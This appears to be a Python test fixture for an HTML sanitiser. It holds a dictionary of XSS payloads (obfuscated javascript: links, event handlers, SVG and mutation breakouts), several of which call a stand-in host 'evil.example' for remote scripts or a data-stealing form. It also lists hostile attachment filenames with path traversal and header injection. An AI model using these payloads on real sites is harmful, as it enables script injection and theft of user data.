"""Hostile HTML for the sanitiser tests and the browser XSS test: each payload would set
``window.__xss`` or call ``alert`` if anything of it ran, or fetch something remote if loaded."""

from __future__ import annotations

RUN = "window.__xss=1;alert(1)"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script_src": "<script src=http://evil.example/x.js></script>",
    "img_onerror": f'<img src=x onerror="{RUN}">',
    "js_link": f'<a href="javascript:{RUN}">click</a>',
    "js_link_entity": '<a href="&#106;avascript:window.__xss=1">click</a>',
    "js_link_hex_entity": '<a href="&#x6A;avascript&#x3A;window.__xss=1">click</a>',
    "js_link_tab": '<a href="jav&#x09;ascript:window.__xss=1">click</a>',
    "js_link_newline": '<a href="java\nscript:window.__xss=1">click</a>',
    "js_link_space": '<a href="  javascript:window.__xss=1">click</a>',
    "js_link_case": '<a href="JaVaScRiPt:window.__xss=1">click</a>',
    "js_link_percent": '<a href="javascript%3Awindow.__xss=1">click</a>',
    "data_link": '<a href="data:text/html,<script>window.__xss=1</script>">click</a>',
    "vbscript_link": '<a href="vbscript:msgbox(1)">click</a>',
    "svg_onload": f'<svg onload="{RUN}"><circle r=5></circle></svg>',
    "svg_script": f"<svg><script>{RUN}</script></svg>",
    "style_block": "<style>body{background:url(http://evil.example/bg.png)}</style>",
    "style_attr": '<div style="background:url(http://evil.example/bg.png)">styled</div>',
    "css_expression": '<div style="width:expression(window.__xss=1)">expr</div>',
    "iframe": '<iframe src="javascript:parent.__xss=1"></iframe>',
    "iframe_srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": '<object data="http://evil.example/x.swf"></object>',
    "embed": '<embed src="http://evil.example/x.swf">',
    "form": '<form action="http://evil.example/steal"><input name=p><button>go</button></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    "base_href": '<base href="http://evil.example/">',
    "remote_img": '<img src="http://evil.example/track.gif" alt="logo">',
    "link_stylesheet": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "body_onload": f'<body onload="{RUN}">body</body>',
    "details_ontoggle": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    "math_href": '<math><a xlink:href="javascript:window.__xss=1">m</a></math>',
    "template": f"<template><script>{RUN}</script></template>",
    "noscript_breakout": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "comment_breakout": f"<!--><script>{RUN}</script>-->",
    "event_on_a": f'<a href="https://ok.example/" onmouseover="{RUN}">hover</a>',
}

# Attachment file names: shown on the page and sent in Content-Disposition.
FILENAMES = [
    f"<img src=x onerror={RUN}>.pdf",
    f'"><script>{RUN}</script>.txt',
    "../../etc/passwd",
    "report\x1b[2J\x07; filename=evil.exe.csv",
    "C:\\Windows\\evil.bat",
]
